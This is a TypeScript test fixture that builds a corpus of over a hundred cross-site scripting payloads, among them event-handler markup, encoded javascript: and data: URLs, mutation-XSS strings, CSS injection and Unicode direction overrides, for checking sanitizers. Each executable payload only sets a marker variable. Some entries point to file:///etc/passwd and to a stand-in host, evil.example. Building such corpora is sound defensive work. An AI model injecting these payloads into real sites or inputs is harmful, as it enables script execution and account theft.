/**
 * An XSS corpus: markup, event handlers, script-scheme URLs with encodings and whitespace
 * tricks, SVG, template and mutation-XSS strings, CSS injection, Unicode direction overrides.
 * Every payload that could run sets `window.__xss`.
 */
const RUN = 'window.__xss=1';

const base = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `</style><style>*{display:none!important}</style>`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<select onfocus=${RUN} autofocus>`,
  `<textarea onfocus=${RUN} autofocus>`,
  `<keygen onfocus=${RUN} autofocus>`,
  `<x onclick=${RUN}>click me`,
];

const urls = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript%3A${RUN}`,
  `\u0000javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `livescript:${RUN}`,
  `file:///etc/passwd`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x`,
];

const unicode = [
  '\u202Egnp.exe',
  'abc\u202Edef\u202C',
  '\u2066isolate\u2069',
  '\u200Bzero\u200Bwidth',
  '\uFEFFbom',
  '𝕵𝖆𝖛𝖆𝖘𝖈𝖗𝖎𝖕𝖙',
  'ｊａｖａｓｃｒｉｐｔ：alert(1)',
  '\u0000null\u0000byte',
  'x'.repeat(10_000),
  '<'.repeat(200),
];

const wrappers = [(p: string) => p, (p: string) => `Title ${p} end`, (p: string) => p.toUpperCase()];

/** At least 100 distinct payloads. */
export const XSS_PAYLOADS: string[] = [...new Set([...base.flatMap((p) => wrappers.map((w) => w(p))), ...urls, ...unicode])];
